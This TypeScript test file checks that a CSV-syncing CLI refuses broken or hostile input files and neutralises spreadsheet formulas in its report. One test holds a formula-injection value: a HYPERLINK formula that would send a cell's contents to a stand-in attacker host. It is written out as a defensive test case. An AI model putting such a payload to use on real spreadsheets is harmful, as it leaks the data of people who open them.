/**
 * Hostile input through the CLI: every broken file stops the run before anything is sent, with
 * exit 3 and a message naming the file (and the line, where there is one), never a stack trace.
 * A file with a header only is not an error. Report cells that a spreadsheet would run as a
 * formula are neutralised, while the endpoint gets the ids as they are.
 */
import { promises as fs } from 'node:fs';
import path from 'node:path';
import { startEmulator, type EmulatorHandle } from '../../src/emulator/index.js';
import { ExitCode } from '../../src/core/exit-codes.js';
import { type CliResult, logLines, runCli, stopChildren } from '../support/cli.js';
import { runArgs } from '../support/args.js';
import { HOSTILE_DIR } from '../support/faults/dataset.js';
import { readReport, readSummary } from '../support/report.js';
import { findSecret, uniqueToken } from '../support/secrets.js';
import { makeWorkspace, type Workspace } from '../support/workspace.js';

const token = uniqueToken('hostile');
let emulator: EmulatorHandle;
let ws: Workspace;

beforeAll(async () => {
  emulator = await startEmulator({ host: '127.0.0.1', port: 0, tokens: [token] });
});
afterAll(() => emulator.close());
beforeEach(async () => {
  emulator.reset();
  ws = await makeWorkspace();
});
afterEach(async () => {
  await stopChildren();
  await ws.remove();
});

/** `run` on `files` ('-' reads `stdin`). */
function sync(files: string | string[], stdin?: Buffer): Promise<CliResult> {
  const args = runArgs({
    endpoint: emulator.url,
    reportDir: ws.report,
    stateDir: ws.state,
    logFormat: 'json',
    logLevel: 'debug',
    input: files,
  });
  return runCli(args, { cwd: ws.root, env: { SEGMENT_SYNC_TOKEN: token }, stdin });
}

/** What every refused input must show: exit 3, the place named, no stack trace, nothing sent. */
async function expectRefused(run: CliResult, place: string): Promise<void> {
  expect({ code: run.code, stderr: run.stderr }).toMatchObject({ code: ExitCode.InputRejected });
  expect(run.stderr).toContain(place);
  for (const output of [run.stdout, run.stderr]) expect(output).not.toMatch(/^\s*at .+:\d+:\d+\)?$/m);
  expect(() => logLines(run.stdout)).not.toThrow();
  // A structural problem leaves no results.csv (no row was classified), only the summary.
  const summary = readSummary(ws.report);
  expect(summary).toMatchObject({ status: 'rejected', exitCode: ExitCode.InputRejected });
  expect(summary.message).toContain(place);
  expect(emulator.state().starts).toEqual([]); // not one request arrived
  expect(await findSecret(token, [run], [ws.root])).toEqual([]);
}

test.each([
  ['unclosed-quote.csv', 4],
  ['latin1.csv', 3],
  ['binary.bin', 1],
  ['empty.csv', 1],
  ['missing-id-column.csv', 1],
  ['duplicate-headers.csv', 1],
  ['wide-10000-fields.csv', 3],
])('fixtures/hostile/%s: exit 3 naming the file and line %i, nothing sent', async (name, line) => {
  const file = path.join(HOSTILE_DIR, name);
  await expectRefused(await sync(file), `${file}:${line}: `);
});

test('a 10 MB field: the record size cap stops it and says which option raises the cap', async () => {
  const file = path.join(ws.root, 'huge-field.csv');
  await fs.writeFile(file, `document_id,tier\nH-1,gold\nH-2,${'x'.repeat(10 * 1024 * 1024)}\n`);
  const run = await sync(file);
  await expectRefused(run, `${file}:3: `);
  expect(run.stderr).toContain('--max-record-bytes');
});

test('a directory given as the input: exit 3 naming it, nothing sent', async () => {
  const sub = path.join(ws.root, 'exports');
  await fs.mkdir(sub);
  await expectRefused(await sync(sub), `${sub}: `);
});

test('hostile input on stdin: exit 3 naming stdin and the line, nothing sent', async () => {
  const latin1 = await fs.readFile(path.join(HOSTILE_DIR, 'latin1.csv'));
  await expectRefused(await sync('-', latin1), 'stdin:3: ');
});

test("a good file followed by a broken one: nothing is sent, not even the good file's customers", async () => {
  const good = path.join(ws.root, 'good.csv');
  await fs.writeFile(good, 'document_id,tier\nG-1,gold\nG-2,silver\n');
  const broken = path.join(HOSTILE_DIR, 'unclosed-quote.csv');
  await expectRefused(await sync([good, broken]), `${broken}:4: `);
});

const asRoot = process.getuid?.() === 0;
(asRoot ? test.skip : test)('an unreadable file: exit 3 naming it, nothing sent (skipped as root, who can read anything)', async () => {
  const file = path.join(ws.root, 'locked.csv');
  await fs.writeFile(file, 'document_id,tier\nL-1,gold\n', { mode: 0o000 });
  await expectRefused(await sync(file), file);
});

test('a header with no rows is not an error: exit 0, a report, nothing sent', async () => {
  const run = await sync(path.join(HOSTILE_DIR, 'header-only.csv'));
  expect({ code: run.code, stderr: run.stderr }).toMatchObject({ code: ExitCode.Ok });
  const { summary, results } = readReport(ws.report);
  expect(summary).toMatchObject({ status: 'succeeded', counts: { rows: 0, customers: 0 } });
  expect(results).toEqual([]);
  expect(emulator.state().starts).toEqual([]);
  expect(await findSecret(token, [run], [ws.root])).toEqual([]);
});

test('mixed CRLF/LF with blank lines and quoted line breaks: each record at its own line, all delivered', async () => {
  const run = await sync(path.join(HOSTILE_DIR, 'mixed-newlines.csv'));
  expect(run.code).toBe(ExitCode.Ok);
  const { results } = readReport(ws.report);
  expect(results.map((r) => [r.line, r.status])).toEqual([
    ['2', 'updated'],
    ['4', 'updated'],
    ['6', 'updated'],
    ['10', 'updated'],
  ]);
  expect(Object.keys(emulator.state().customers)).toEqual(expect.arrayContaining(['2008-1001', '2008-1002', '2008-1003', '2008-1004']));
});

test('ids that look like formulas are sent as they are, and neutralised in results.csv', async () => {
  const run = await sync(path.join(HOSTILE_DIR, 'formula-injection.csv'));
  expect(run.code).toBe(ExitCode.Ok);
  const ids = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '2009-1002', '-2009-1003', '@2009-1004'];
  expect(Object.keys(emulator.state().customers).sort()).toEqual([...ids].sort());
  const { results } = readReport(ws.report);
  expect(results.map((r) => r.document_id)).toEqual(ids.map((id) => (/^[=+\-@\t\r]/.test(id) ? `'${id}` : id)));
});
